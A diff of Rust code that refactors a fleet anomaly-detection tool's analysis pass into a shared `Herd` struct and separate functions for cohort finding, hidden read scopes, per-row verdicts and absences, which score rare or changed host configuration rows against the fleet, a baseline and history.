@@ -370,93 +370,119 @@ fn round(x: f64) -> f64 {
     (x * 100.0).round() / 100.0
 }
 
-/// Scores `builder`'s survey hosts and assembles the report.
-pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppressions: &Suppressions) -> Report {
-    let Builder { tables, survey, baseline: baseline_hosts, .. } = builder;
-    let mut warnings = ctx.warnings;
-    let cluster_on = ctx.methods.contains(&Method::Cluster);
-    let baseline_on = ctx.methods.contains(&Method::Baseline) && !baseline_hosts.is_empty();
-    let novelty_on = ctx.methods.contains(&Method::Novelty) && ctx.history.is_some();
+/// What every pass reads: the tables, the survey hosts with usable evidence
+/// and each table's prevalence among them. Hosts are referred to by their
+/// *analysed index*: their position in `analysed`, in id order.
+struct Herd<'a> {
+    tables: &'a [QueryTable],
+    survey: &'a [HostEntry],
+    /// Every survey host, by id.
+    order: Vec<usize>,
+    /// Survey indices of the hosts with usable evidence, by id.
+    analysed: Vec<usize>,
+    /// `analysed.len()`.
+    n: usize,
+    stats: Vec<TableStats>,
+    cluster_on: bool,
+    /// The history's length, for "first seen" explanations.
+    history_days: u32,
+}
 
-    // Survey hosts with usable evidence, by id.
-    let mut order: Vec<usize> = (0..survey.len()).collect();
-    order.sort_by(|a, b| survey[*a].id.cmp(&survey[*b].id));
-    let analysed: Vec<usize> = order.iter().copied().filter(|&i| survey[i].usable()).collect();
-    let n = analysed.len();
-
-    // Prevalence per table.
-    let mut stats: Vec<TableStats> = tables
-        .iter()
-        .map(|t| TableStats {
-            usable: Vec::new(),
-            hosts_of_row: vec![Vec::new(); t.rows.len()],
-            identity_hosts: vec![0; t.identities],
-            dominant: vec![u32::MAX; t.identities],
-            baseline: None,
-            seen: None,
-        })
-        .collect();
-    let mut ident_scratch = Vec::new();
-    for (a, &si) in analysed.iter().enumerate() {
-        for (t, q) in &survey[si].queries {
-            if let crate::dataset::HostQuery::Rows(rows) = q {
-                let s = &mut stats[*t];
-                s.usable.push(a as u32);
-                ident_scratch.clear();
-                for &(r, _) in rows {
-                    s.hosts_of_row[r as usize].push(a as u32);
-                    ident_scratch.push(tables[*t].rows[r as usize].identity);
-                }
-                ident_scratch.sort_unstable();
-                ident_scratch.dedup();
-                for &i in &ident_scratch {
-                    s.identity_hosts[i as usize] += 1;
-                }
-            }
-        }
-    }
-    for (t, table) in tables.iter().enumerate() {
-        let s = &mut stats[t];
-        // The usual value of an identity is the one most hosts have; a value
-        // its package disowns (a binary that fails its package's checksum)
-        // is never the usual one while another exists, however many hosts
-        // have it: a campaign on half the fleet does not become the norm.
-        for (r, info) in table.rows.iter().enumerate() {
-            let d = &mut s.dominant[info.identity as usize];
-            let rank = |x: usize| (!disowned(table.profile.kind, &table.rows[x].original), s.hosts_of_row[x].len());
-            if *d == u32::MAX || rank(r) > rank(*d as usize) {
-                *d = r as u32;
-            }
-        }
-        if baseline_on {
-            let mut counts: FxHashMap<u32, usize> = FxHashMap::default();
-            let mut nb = 0;
-            for h in &baseline_hosts {
-                if let Some(rows) = h.rows(t) {
-                    nb += 1;
+impl<'a> Herd<'a> {
+    /// The prevalence pass: per table, which analysed hosts have each row and
+    /// each identity, the usual row of each identity, the baseline's rows (on
+    /// most baseline hosts) and the keys history has seen.
+    fn new(
+        tables: &'a [QueryTable],
+        survey: &'a [HostEntry],
+        baseline_hosts: &[HostEntry],
+        methods: &[Method],
+        history: Option<&Seen>,
+        history_days: u32,
+    ) -> Self {
+        let cluster_on = methods.contains(&Method::Cluster);
+        let baseline_on = methods.contains(&Method::Baseline) && !baseline_hosts.is_empty();
+        let novelty_on = methods.contains(&Method::Novelty) && history.is_some();
+        let mut order: Vec<usize> = (0..survey.len()).collect();
+        order.sort_by(|a, b| survey[*a].id.cmp(&survey[*b].id));
+        let analysed: Vec<usize> = order.iter().copied().filter(|&i| survey[i].usable()).collect();
+        let mut stats: Vec<TableStats> = tables
+            .iter()
+            .map(|t| TableStats {
+                usable: Vec::new(),
+                hosts_of_row: vec![Vec::new(); t.rows.len()],
+                identity_hosts: vec![0; t.identities],
+                dominant: vec![u32::MAX; t.identities],
+                baseline: None,
+                seen: None,
+            })
+            .collect();
+        let mut ident_scratch = Vec::new();
+        for (a, &si) in analysed.iter().enumerate() {
+            for (t, q) in &survey[si].queries {
+                if let crate::dataset::HostQuery::Rows(rows) = q {
+                    let s = &mut stats[*t];
+                    s.usable.push(a as u32);
+                    ident_scratch.clear();
                     for &(r, _) in rows {
-                        *counts.entry(r).or_default() += 1;
+                        s.hosts_of_row[r as usize].push(a as u32);
+                        ident_scratch.push(tables[*t].rows[r as usize].identity);
+                    }
+                    ident_scratch.sort_unstable();
+                    ident_scratch.dedup();
+                    for &i in &ident_scratch {
+                        s.identity_hosts[i as usize] += 1;
                     }
                 }
             }
-            if nb > 0 {
-                let min = nb / 2 + 1;
-                let set: FxHashSet<u32> = counts.into_iter().filter(|(_, c)| *c >= min).map(|(r, _)| r).collect();
-                let idents = set.iter().map(|&r| (table.rows[r as usize].identity, r)).collect();
-                s.baseline = Some((set, idents, nb));
+        }
+        for (t, table) in tables.iter().enumerate() {
+            let s = &mut stats[t];
+            // The usual value of an identity is the one most hosts have; a value
+            // its package disowns (a binary that fails its package's checksum)
+            // is never the usual one while another exists, however many hosts
+            // have it: a campaign on half the fleet does not become the norm.
+            for (r, info) in table.rows.iter().enumerate() {
+                let d = &mut s.dominant[info.identity as usize];
+                let rank = |x: usize| (!disowned(table.profile.kind, &table.rows[x].original), s.hosts_of_row[x].len());
+                if *d == u32::MAX || rank(r) > rank(*d as usize) {
+                    *d = r as u32;
+                }
+            }
+            if baseline_on {
+                let mut counts: FxHashMap<u32, usize> = FxHashMap::default();
+                let mut nb = 0;
+                for h in baseline_hosts {
+                    if let Some(rows) = h.rows(t) {
+                        nb += 1;
+                        for &(r, _) in rows {
+                            *counts.entry(r).or_default() += 1;
+                        }
+                    }
+                }
+                if nb > 0 {
+                    let min = nb / 2 + 1;
+                    let set: FxHashSet<u32> = counts.into_iter().filter(|(_, c)| *c >= min).map(|(r, _)| r).collect();
+                    let idents = set.iter().map(|&r| (table.rows[r as usize].identity, r)).collect();
+                    s.baseline = Some((set, idents, nb));
+                }
+            }
+            if novelty_on {
+                s.seen = history.and_then(|h| h.by_query.get(&table.name)).map(|(set, _)| set.clone());
             }
         }
-        if novelty_on {
-            s.seen = ctx.history.as_ref().and_then(|h| h.by_query.get(&table.name)).map(|(set, _)| set.clone());
-        }
+        let n = analysed.len();
+        Herd { tables, survey, order, analysed, n, stats, cluster_on, history_days }
     }
 
-    // Labels that may explain a cohort: a launch template version, an image,
-    // an instance type, a group, labels of the host list; and launch times.
-    let labels = LabelGroups::new(&analysed, &survey);
-    // The kind a present row has for the cluster method, and its assessment.
-    let cluster_kind = |t: usize, r: usize| -> FindingKind {
-        let (table, s) = (&tables[t], &stats[t]);
+    /// The id of analysed host `a`.
+    fn id_of(&self, a: u32) -> String {
+        self.survey[self.analysed[a as usize]].id.clone()
+    }
+
+    /// The kind a present row has for the cluster method.
+    fn cluster_kind(&self, t: usize, r: usize) -> FindingKind {
+        let (table, s) = (&self.tables[t], &self.stats[t]);
         let info = &table.rows[r];
         let d = s.dominant[info.identity as usize];
         if table.profile.has_partial_identity()
@@ -469,12 +495,13 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
         } else {
             FindingKind::Rare
         }
-    };
+    }
 
-    // The kind of finding a present row is, and the row it replaced: the same
-    // in the cohort pass and in the verdicts.
-    let row_kind = |t: usize, r: usize| -> (FindingKind, Option<u32>, bool) {
-        let (table, s) = (&tables[t], &stats[t]);
+    /// The kind of finding a present row is, the row it replaced, and whether
+    /// that came from the baseline: the same in the cohort pass and in the
+    /// verdicts.
+    fn row_kind(&self, t: usize, r: usize) -> (FindingKind, Option<u32>, bool) {
+        let (table, s) = (&self.tables[t], &self.stats[t]);
         let info = &table.rows[r];
         let not_in_baseline = s.baseline.as_ref().is_some_and(|(b, _, _)| !b.contains(&(r as u32)));
         let baseline_expected = match (&s.baseline, not_in_baseline && table.profile.has_partial_identity()) {
@@ -483,109 +510,125 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
         };
         if let Some(b) = baseline_expected {
             (FindingKind::Changed, Some(b), true)
-        } else if cluster_on && cluster_kind(t, r) == FindingKind::Changed {
+        } else if self.cluster_on && self.cluster_kind(t, r) == FindingKind::Changed {
             (FindingKind::Changed, Some(s.dominant[info.identity as usize]), false)
         } else if not_in_baseline {
             (FindingKind::Added, None, false)
-        } else if cluster_on {
+        } else if self.cluster_on {
             (FindingKind::Rare, None, false)
         } else {
             (FindingKind::New, None, false)
         }
-    };
-
-    // Cohorts: groups of hosts set apart by the same rows. A pattern of attack
-    // never makes or joins one; a sensitive row (a changed system binary, a
-    // new key) stays only when a label explains the cohort: a deploy.
-    let mut cohorts_found: Vec<(Signature, CohortRows, Option<String>)> = Vec::new();
-    let mut explained: FxHashSet<(usize, u32)> = FxHashSet::default();
-    if cluster_on && n >= 4 {
-        let min = cohort_min(n);
-        let mut groups: FxHashMap<Signature, CohortRows> = FxHashMap::default();
-        for (t, table) in tables.iter().enumerate() {
-            let s = &stats[t];
-            let nt = s.usable.len();
-            for (r, hosts) in s.hosts_of_row.iter().enumerate() {
-                let k = hosts.len();
-                let (sig, presence) = if k >= min && 2 * k <= nt {
-                    (hosts.clone(), Presence::Present)
-                } else if 2 * k > nt && nt - k >= min && 2 * (nt - k) <= nt {
-                    (complement(&s.usable, hosts), Presence::Absent)
-                } else {
-                    continue;
-                };
-                let row = &table.rows[r].original;
-                let mut a = assess(table.profile.kind, row, row_kind(t, r).0);
-                if presence == Presence::Absent {
-                    // The hosts that lack a strong row are not a cohort
-                    // explaining it: they are the clean ones.
-                    let missing = assess(table.profile.kind, row, FindingKind::Missing);
-                    a = crate::indicators::Assessment {
-                        severity: missing.severity.max(a.severity),
-                        relevance: missing.relevance.max(a.relevance),
-                        indicators: missing.indicators,
-                    };
-                }
-                if a.relevance == Relevance::Attack || (a.relevance == Relevance::None && a.severity > 2.0) {
-                    continue; // a deploy does not explain a suspicious row
-                }
-                groups.entry(sig).or_default().push((t, r as u32, presence, a.relevance == Relevance::Sensitive));
-            }
-        }
-        let mut groups: Vec<(Signature, CohortRows)> = groups.into_iter().collect();
-        groups.sort_by(|a, b| b.1.len().cmp(&a.1.len()).then(b.0.len().cmp(&a.0.len())).then(a.0.cmp(&b.0)));
-        let mut absorbed = vec![false; groups.len()];
-        // Two hosts that only gained the same rows are suspects, not a
-        // deploy: a cohort that small must have replaced something.
-        let enough = |hosts: usize, rows: &CohortRows| {
-            let replaced =
-                rows.iter().any(|g| g.2 == Presence::Absent) && rows.iter().any(|g| g.2 == Presence::Present);
-            rows.len() >= 2 && (hosts >= 3 || replaced)
-        };
-        for i in 0..groups.len() {
-            // A label makes any shared difference a deploy, even one row on
-            // two hosts; without one, a cohort needs the shape of a deploy.
-            if absorbed[i] {
-                continue;
-            }
-            let shaped = enough(groups[i].0.len(), &groups[i].1);
-            let because = if shaped || groups[i].1.iter().any(|g| g.3) { labels.explain(&groups[i].0) } else { None };
-            if because.is_none() && !shaped {
-                continue;
-            }
-            absorbed[i] = true;
-            let mut rows = groups[i].1.clone();
-            for j in 0..groups.len() {
-                if absorbed[j] {
-                    continue;
-                }
-                let (a, b) = (groups[i].0.len() as f64, groups[j].0.len() as f64);
-                if a.min(b) / a.max(b) < 0.8 {
-                    continue;
-                }
-                if jaccard(&groups[i].0, &groups[j].0) >= 0.8 {
-                    absorbed[j] = true;
-                    rows.extend(groups[j].1.iter().copied());
-                }
-            }
-            if because.is_none() {
-                // Nothing says these hosts were built differently: their
-                // sensitive rows are scored like anyone's.
-                rows.retain(|g| !g.3);
-                if !enough(groups[i].0.len(), &rows) {
-                    continue;
-                }
-            }
-            for &(t, r, _, _) in &rows {
-                explained.insert((t, r));
-            }
-            cohorts_found.push((groups[i].0.clone(), rows, because));
-        }
-        cohorts_found.sort_by(|a, b| b.0.len().cmp(&a.0.len()).then(b.1.len().cmp(&a.1.len())).then(a.0.cmp(&b.0)));
     }
+}
+
+/// Cohorts found: (hosts, rows, the label that explains them), and the rows
+/// they explain (never scored).
+struct FoundCohorts {
+    found: Vec<(Signature, CohortRows, Option<String>)>,
+    explained: FxHashSet<RowRef>,
+}
+
+/// The cohort pass: groups of hosts set apart by the same rows. A pattern of
+/// attack never makes or joins one; a sensitive row (a changed system binary,
+/// a new key) stays only when a label explains the cohort: a deploy.
+fn find_cohorts(herd: &Herd<'_>, labels: &LabelGroups) -> FoundCohorts {
+    let n = herd.n;
+    let mut found: Vec<(Signature, CohortRows, Option<String>)> = Vec::new();
+    let mut explained: FxHashSet<RowRef> = FxHashSet::default();
+    if !herd.cluster_on || n < 4 {
+        return FoundCohorts { found, explained };
+    }
+    let min = cohort_min(n);
+    let mut groups: FxHashMap<Signature, CohortRows> = FxHashMap::default();
+    for (t, table) in herd.tables.iter().enumerate() {
+        let s = &herd.stats[t];
+        let nt = s.usable.len();
+        for (r, hosts) in s.hosts_of_row.iter().enumerate() {
+            let k = hosts.len();
+            let (sig, presence) = if k >= min && 2 * k <= nt {
+                (hosts.clone(), Presence::Present)
+            } else if 2 * k > nt && nt - k >= min && 2 * (nt - k) <= nt {
+                (complement(&s.usable, hosts), Presence::Absent)
+            } else {
+                continue;
+            };
+            let row = &table.rows[r].original;
+            let mut a = assess(table.profile.kind, row, herd.row_kind(t, r).0);
+            if presence == Presence::Absent {
+                // The hosts that lack a strong row are not a cohort
+                // explaining it: they are the clean ones.
+                let missing = assess(table.profile.kind, row, FindingKind::Missing);
+                a = crate::indicators::Assessment {
+                    severity: missing.severity.max(a.severity),
+                    relevance: missing.relevance.max(a.relevance),
+                    indicators: missing.indicators,
+                };
+            }
+            if a.relevance == Relevance::Attack || (a.relevance == Relevance::None && a.severity > 2.0) {
+                continue; // a deploy does not explain a suspicious row
+            }
+            groups.entry(sig).or_default().push((t, r as u32, presence, a.relevance == Relevance::Sensitive));
+        }
+    }
+    let mut groups: Vec<(Signature, CohortRows)> = groups.into_iter().collect();
+    groups.sort_by(|a, b| b.1.len().cmp(&a.1.len()).then(b.0.len().cmp(&a.0.len())).then(a.0.cmp(&b.0)));
+    let mut absorbed = vec![false; groups.len()];
+    // Two hosts that only gained the same rows are suspects, not a
+    // deploy: a cohort that small must have replaced something.
+    let enough = |hosts: usize, rows: &CohortRows| {
+        let replaced = rows.iter().any(|g| g.2 == Presence::Absent) && rows.iter().any(|g| g.2 == Presence::Present);
+        rows.len() >= 2 && (hosts >= 3 || replaced)
+    };
+    for i in 0..groups.len() {
+        // A label makes any shared difference a deploy, even one row on
+        // two hosts; without one, a cohort needs the shape of a deploy.
+        if absorbed[i] {
+            continue;
+        }
+        let shaped = enough(groups[i].0.len(), &groups[i].1);
+        let because = if shaped || groups[i].1.iter().any(|g| g.3) { labels.explain(&groups[i].0) } else { None };
+        if because.is_none() && !shaped {
+            continue;
+        }
+        absorbed[i] = true;
+        let mut rows = groups[i].1.clone();
+        for j in 0..groups.len() {
+            if absorbed[j] {
+                continue;
+            }
+            let (a, b) = (groups[i].0.len() as f64, groups[j].0.len() as f64);
+            if a.min(b) / a.max(b) < 0.8 {
+                continue;
+            }
+            if jaccard(&groups[i].0, &groups[j].0) >= 0.8 {
+                absorbed[j] = true;
+                rows.extend(groups[j].1.iter().copied());
+            }
+        }
+        if because.is_none() {
+            // Nothing says these hosts were built differently: their
+            // sensitive rows are scored like anyone's.
+            rows.retain(|g| !g.3);
+            if !enough(groups[i].0.len(), &rows) {
+                continue;
+            }
+        }
+        for &(t, r, _, _) in &rows {
+            explained.insert((t, r));
+        }
+        found.push((groups[i].0.clone(), rows, because));
+    }
+    found.sort_by(|a, b| b.0.len().cmp(&a.0.len()).then(b.1.len().cmp(&a.1.len())).then(a.0.cmp(&b.0)));
+    FoundCohorts { found, explained }
+}
+
+/// The report's cohorts, and each analysed host's cohort ids.
+fn cohort_reports(herd: &Herd<'_>, found: &FoundCohorts) -> (Vec<Cohort>, Vec<Vec<String>>) {
+    let n = herd.n;
     let mut host_cohorts: Vec<Vec<String>> = vec![Vec::new(); n];
     let mut cohorts = Vec::new();
-    for (ci, (hosts, rows, because)) in cohorts_found.iter().enumerate() {
+    for (ci, (hosts, rows, because)) in found.found.iter().enumerate() {
         let id = format!("cohort-{}", ci + 1);
         for &a in hosts {
             host_cohorts[a as usize].push(id.clone());
@@ -593,21 +636,21 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
         let mut cohort_rows: Vec<CohortRow> = rows
             .iter()
             .map(|&(t, r, presence, _)| {
-                let table = &tables[t];
+                let table = &herd.tables[t];
                 CohortRow {
                     query: table.name.clone(),
                     presence,
                     row: visible(table, &table.rows[r as usize].original),
                     prevalence: Prevalence {
-                        hosts: stats[t].hosts_of_row[r as usize].len(),
-                        of: stats[t].usable.len(),
+                        hosts: herd.stats[t].hosts_of_row[r as usize].len(),
+                        of: herd.stats[t].usable.len(),
                     },
                 }
             })
             .collect();
         cohort_rows.sort_by(|a, b| (a.presence as u8, &a.query, &a.row).cmp(&(b.presence as u8, &b.query, &b.row)));
-        let ids: Vec<String> = hosts.iter().map(|&a| survey[analysed[a as usize]].id.clone()).collect();
-        let labels = shared_labels(hosts, &analysed, &survey);
+        let ids: Vec<String> = hosts.iter().map(|&a| herd.id_of(a)).collect();
+        let labels = shared_labels(hosts, &herd.analysed, herd.survey);
         let sample: Vec<String> = cohort_rows
             .iter()
             .take(3)
@@ -620,9 +663,7 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
         let (kind, what) = match because {
             Some(label) => (
                 CohortKind::Deploy,
-                format!(
-                    "a deploy: {label} sets these hosts apart, so these differences are not scored"
-                ),
+                format!("a deploy: {label} sets these hosts apart, so these differences are not scored"),
             ),
             None => (
                 CohortKind::Unexplained,
@@ -648,136 +689,155 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
             rows: cohort_rows,
         });
     }
+    (cohorts, host_cohorts)
+}
 
-    // Per table, the hosts that could not read some of it, and where: a row
-    // lying there is unknown on them, not absent (a root host's key under
-    // /root/.ssh is not rare among hosts that could not open /root).
-    let hidden_scope: Vec<Vec<(u32, Vec<String>)>> = tables
+/// Per table, the analysed hosts that could not read some of it, and where:
+/// a row lying there is unknown on them, not absent (a root host's key under
+/// /root/.ssh is not rare among hosts that could not open /root).
+fn hidden_scopes(herd: &Herd<'_>) -> Vec<Vec<(u32, Vec<String>)>> {
+    herd.tables
         .iter()
         .map(|table| {
-            analysed
+            herd.analysed
                 .iter()
                 .enumerate()
                 .filter_map(|(a, &si)| {
-                    let u = survey[si].unseen.iter().find(|(q, _)| *q == table.name)?;
+                    let u = herd.survey[si].unseen.iter().find(|(q, _)| *q == table.name)?;
                     let paths: Vec<String> = u.1.first.iter().filter(|p| p.starts_with('/')).cloned().collect();
                     (!paths.is_empty()).then_some((a as u32, paths))
                 })
                 .collect()
         })
-        .collect();
+        .collect()
+}
 
-    // Per row, once: whether it is a finding on the hosts that have it, how
-    // strong, and why. Only how the row is shown depends on the host.
-    let verdict = |t: usize, r: usize| -> Option<Verdict> {
-        let (table, s) = (&tables[t], &stats[t]);
-        let nt = s.usable.len();
-        let k = s.hosts_of_row[r].len();
-        if k == 0 || explained.contains(&(t, r as u32)) {
-            return None;
-        }
-        let info = &table.rows[r];
-        let hidden = hidden_on(&hidden_scope[t], &s.hosts_of_row[r], &info.original);
-        let s_cluster = if cluster_on { rarity(k, nt - hidden) } else { 0.0 };
-        let not_in_baseline = s.baseline.as_ref().map(|(b, _, _)| !b.contains(&(r as u32)));
-        let s_base = match not_in_baseline {
-            Some(true) if nt < MIN_HERD => 1.0,
-            Some(true) if 2 * k > nt => 0.0, // drift, reported once
-            Some(true) => rarity(k, nt),
-            _ => 0.0,
-        };
-        let is_new = s.seen.as_ref().map(|seen| !seen.contains(&info.key_hash));
-        let s_novel = match is_new {
-            Some(true) if nt < MIN_HERD => 1.0,
-            Some(true) if 2 * k > nt => 0.0, // drift, reported once
-            Some(true) => 0.5 * (1.0 - k as f64 / nt as f64),
-            _ => 0.0,
-        };
-        // Same identity, other attributes: "changed".
-        let (kind, expected, from_baseline) = row_kind(t, r);
-        let assessment = assess(table.profile.kind, &info.original, kind);
-        // Security relevance is not diluted by prevalence: a strong row counts
-        // on any share of the fleet below most of it, and whatever its share
-        // when the baseline lacks it or the target never showed it.
-        // "Most of the fleet" counts every analysed host (a query that failed
-        // on some does not make a campaign on half of them the norm) but those
-        // that could not read where the row lies.
-        // A herd is needed to say "below most".
-        // Nor does a row every readable host has become one when the query
-        // failed on many: some of the hosts that could read it must lack it.
-        let campaign_cluster =
-            cluster_on && n >= MIN_HERD && 2 * k <= n.saturating_sub(hidden) && 10 * k < 9 * nt.saturating_sub(hidden);
-        let campaign =
-            assessment.strong() && (campaign_cluster || not_in_baseline == Some(true) || is_new == Some(true));
-        let strength = s_cluster.max(s_base).max(s_novel);
-        if strength <= 0.0 && !campaign {
-            return None;
-        }
-        let mut methods = Vec::new();
-        if s_cluster > 0.0 || (campaign && campaign_cluster) {
-            methods.push(Method::Cluster);
-        }
-        if s_base > 0.0 || (campaign && not_in_baseline == Some(true)) {
-            methods.push(Method::Baseline);
-        }
-        if s_novel > 0.0 || (campaign && is_new == Some(true)) {
-            methods.push(Method::Novelty);
-        }
-        let mut raw = table.profile.weight * assessment.severity * strength;
-        if campaign {
-            raw = raw.max(STRONG_FLOOR + rarity(k, nt));
-        }
-        if raw < 0.25 && assessment.indicators.is_empty() {
-            return None;
-        }
-        let expected_row = expected.map(|e| visible(table, &table.rows[e as usize].original));
-        let prevalence = Prevalence { hosts: k, of: nt };
-        let explanation = match (kind, &expected_row) {
-            (FindingKind::Changed, Some(exp)) => {
-                let others = expected.map(|e| s.hosts_of_row[e as usize].len()).unwrap_or(0);
-                let usual = if from_baseline {
-                    "the baseline's value".to_string()
-                } else {
-                    format!("the value on {others} of {nt} hosts")
-                };
-                let identity: Vec<&str> =
-                    table.profile.identity.iter().filter_map(|c| info.original.get(c).map(String::as_str)).collect();
-                format!(
-                    "{} {} changed: {} (this value on {prevalence}; before the arrow, {usual})",
-                    table.name,
-                    identity.join(" "),
-                    differences(exp, &visible(table, &info.original)),
-                )
-            }
-            _ => {
-                let mut why = Vec::new();
-                if methods.contains(&Method::Cluster) || !methods.contains(&Method::Baseline) || campaign {
-                    why.push(format!("seen on {prevalence}"));
-                }
-                if hidden > 0 {
-                    why.push(format!("{hidden} of them could not read where it lies"));
-                }
-                if methods.contains(&Method::Baseline) {
-                    why.push("not in the baseline".to_string());
-                }
-                if methods.contains(&Method::Novelty) {
-                    why.push(format!("first seen: not in the last {} days of this target", ctx.history_days));
-                }
-                format!("{} {}: {}", table.name, summarise(table.profile.kind, &info.original), why.join("; "))
-            }
-        };
-        Some(Verdict { kind, expected: expected_row, assessment, methods, raw, explanation, campaign })
-    };
-    let verdicts: Vec<Vec<Option<Verdict>>> = (0..tables.len())
+/// The verdict pass: per row, once, whether it is a finding on the hosts that
+/// have it, how strong, and why. Only how the row is shown depends on the
+/// host.
+fn verdicts(
+    herd: &Herd<'_>,
+    explained: &FxHashSet<RowRef>,
+    hidden: &[Vec<(u32, Vec<String>)>],
+) -> Vec<Vec<Option<Verdict>>> {
+    (0..herd.tables.len())
         .into_par_iter()
-        .map(|t| (0..tables[t].rows.len()).into_par_iter().map(|r| verdict(t, r)).collect())
-        .collect();
+        .map(|t| {
+            (0..herd.tables[t].rows.len()).into_par_iter().map(|r| verdict(herd, explained, hidden, t, r)).collect()
+        })
+        .collect()
+}
 
-    // Campaigns: hosts that share strong rows no deploy explains.
-    let (campaigns, row_campaign, host_campaigns) = campaigns(&tables, &stats, &verdicts, &analysed, &survey, n);
-    // A cohort whose hosts are also in a campaign says so: what it left
-    // unscored is not all there is to them.
-    for (c, (hosts, _, _)) in cohorts.iter_mut().zip(&cohorts_found) {
+fn verdict(
+    herd: &Herd<'_>,
+    explained: &FxHashSet<RowRef>,
+    hidden_scope: &[Vec<(u32, Vec<String>)>],
+    t: usize,
+    r: usize,
+) -> Option<Verdict> {
+    let (table, s, n) = (&herd.tables[t], &herd.stats[t], herd.n);
+    let cluster_on = herd.cluster_on;
+    let nt = s.usable.len();
+    let k = s.hosts_of_row[r].len();
+    if k == 0 || explained.contains(&(t, r as u32)) {
+        return None;
+    }
+    let info = &table.rows[r];
+    let hidden = hidden_on(&hidden_scope[t], &s.hosts_of_row[r], &info.original);
+    let s_cluster = if cluster_on { rarity(k, nt - hidden) } else { 0.0 };
+    let not_in_baseline = s.baseline.as_ref().map(|(b, _, _)| !b.contains(&(r as u32)));
+    let s_base = match not_in_baseline {
+        Some(true) if nt < MIN_HERD => 1.0,
+        Some(true) if 2 * k > nt => 0.0, // drift, reported once
+        Some(true) => rarity(k, nt),
+        _ => 0.0,
+    };
+    let is_new = s.seen.as_ref().map(|seen| !seen.contains(&info.key_hash));
+    let s_novel = match is_new {
+        Some(true) if nt < MIN_HERD => 1.0,
+        Some(true) if 2 * k > nt => 0.0, // drift, reported once
+        Some(true) => 0.5 * (1.0 - k as f64 / nt as f64),
+        _ => 0.0,
+    };
+    // Same identity, other attributes: "changed".
+    let (kind, expected, from_baseline) = herd.row_kind(t, r);
+    let assessment = assess(table.profile.kind, &info.original, kind);
+    // Security relevance is not diluted by prevalence: a strong row counts
+    // on any share of the fleet below most of it, and whatever its share
+    // when the baseline lacks it or the target never showed it.
+    // "Most of the fleet" counts every analysed host (a query that failed
+    // on some does not make a campaign on half of them the norm) but those
+    // that could not read where the row lies.
+    // A herd is needed to say "below most".
+    // Nor does a row every readable host has become one when the query
+    // failed on many: some of the hosts that could read it must lack it.
+    let campaign_cluster =
+        cluster_on && n >= MIN_HERD && 2 * k <= n.saturating_sub(hidden) && 10 * k < 9 * nt.saturating_sub(hidden);
+    let campaign = assessment.strong() && (campaign_cluster || not_in_baseline == Some(true) || is_new == Some(true));
+    let strength = s_cluster.max(s_base).max(s_novel);
+    if strength <= 0.0 && !campaign {
+        return None;
+    }
+    let mut methods = Vec::new();
+    if s_cluster > 0.0 || (campaign && campaign_cluster) {
+        methods.push(Method::Cluster);
+    }
+    if s_base > 0.0 || (campaign && not_in_baseline == Some(true)) {
+        methods.push(Method::Baseline);
+    }
+    if s_novel > 0.0 || (campaign && is_new == Some(true)) {
+        methods.push(Method::Novelty);
+    }
+    let mut raw = table.profile.weight * assessment.severity * strength;
+    if campaign {
+        raw = raw.max(STRONG_FLOOR + rarity(k, nt));
+    }
+    if raw < 0.25 && assessment.indicators.is_empty() {
+        return None;
+    }
+    let expected_row = expected.map(|e| visible(table, &table.rows[e as usize].original));
+    let prevalence = Prevalence { hosts: k, of: nt };
+    let explanation = match (kind, &expected_row) {
+        (FindingKind::Changed, Some(exp)) => {
+            let others = expected.map(|e| s.hosts_of_row[e as usize].len()).unwrap_or(0);
+            let usual = if from_baseline {
+                "the baseline's value".to_string()
+            } else {
+                format!("the value on {others} of {nt} hosts")
+            };
+            let identity: Vec<&str> =
+                table.profile.identity.iter().filter_map(|c| info.original.get(c).map(String::as_str)).collect();
+            format!(
+                "{} {} changed: {} (this value on {prevalence}; before the arrow, {usual})",
+                table.name,
+                identity.join(" "),
+                differences(exp, &visible(table, &info.original)),
+            )
+        }
+        _ => {
+            let mut why = Vec::new();
+            if methods.contains(&Method::Cluster) || !methods.contains(&Method::Baseline) || campaign {
+                why.push(format!("seen on {prevalence}"));
+            }
+            if hidden > 0 {
+                why.push(format!("{hidden} of them could not read where it lies"));
+            }
+            if methods.contains(&Method::Baseline) {
+                why.push("not in the baseline".to_string());
+            }
+            if methods.contains(&Method::Novelty) {
+                why.push(format!("first seen: not in the last {} days of this target", herd.history_days));
+            }
+            format!("{} {}: {}", table.name, summarise(table.profile.kind, &info.original), why.join("; "))
+        }
+    };
+    Some(Verdict { kind, expected: expected_row, assessment, methods, raw, explanation, campaign })
+}
+
+/// A cohort whose hosts are also in a campaign says so: what it left
+/// unscored is not all there is to them.
+fn note_campaigns_in_cohorts(cohorts: &mut [Cohort], found: &FoundCohorts, host_campaigns: &[Vec<String>]) {
+    for (c, (hosts, _, _)) in cohorts.iter_mut().zip(&found.found) {
         let mut ids: Vec<&String> = hosts.iter().flat_map(|&a| &host_campaigns[a as usize]).collect();
         ids.sort();
         ids.dedup();
@@ -786,12 +846,19 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
             c.explanation.push_str(&format!(" Some of its hosts are also in {}, scored there.", ids.join(", ")));
         }
     }
+}
 
-    // Absences: rows nearly everyone (or the baseline) has, missing on a host.
-    let mut absences: Vec<Vec<(usize, u32, f64, f64)>> = vec![Vec::new(); n];
+/// A row missing on a host: (table, row, cluster strength, baseline strength).
+type Absence = (usize, u32, f64, f64);
+
+/// The absence pass: rows nearly everyone (or the baseline) has, missing on
+/// a host, per analysed host; and the baseline's rows absent from most of the
+/// fleet, as drift (reported once, not on every host).
+fn absences(herd: &Herd<'_>, explained: &FxHashSet<RowRef>) -> (Vec<Vec<Absence>>, Vec<FleetFinding>) {
+    let mut absences: Vec<Vec<Absence>> = vec![Vec::new(); herd.n];
     let mut drift = Vec::new();
-    for (t, table) in tables.iter().enumerate() {
-        let s = &stats[t];
+    for (t, table) in herd.tables.iter().enumerate() {
+        let s = &herd.stats[t];
         let nt = s.usable.len();
         if nt == 0 {
             continue;
@@ -809,7 +876,7 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
             {
                 continue;
             }
